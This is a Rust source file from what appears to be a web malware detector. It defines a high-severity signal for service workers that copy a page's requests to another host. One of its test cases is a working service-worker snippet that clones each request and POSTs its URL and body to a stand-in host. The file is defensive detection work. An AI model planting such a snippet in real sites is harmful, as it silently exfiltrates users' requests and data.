//! `requests-copied-by-worker`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "requests-copied-by-worker",
    description: "A service worker copies all requests of this page to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WorkerFetch]),
        one(&[Atom::RequestCopied]),
        one(&[Atom::SentAbroad]),
        one(&[Atom::PostMethod, Atom::Beacon]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "self.addEventListener('fetch',e=>{const q=e.request.clone();q.text().then(b=>fetch('https://c.example/l',{method:'POST',body:JSON.stringify({u:q.url,b})}))})",
        ],
        without: &[
            "self.addEventListener('fetch',e=>{e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request.clone())))})",
        ],
    },
};
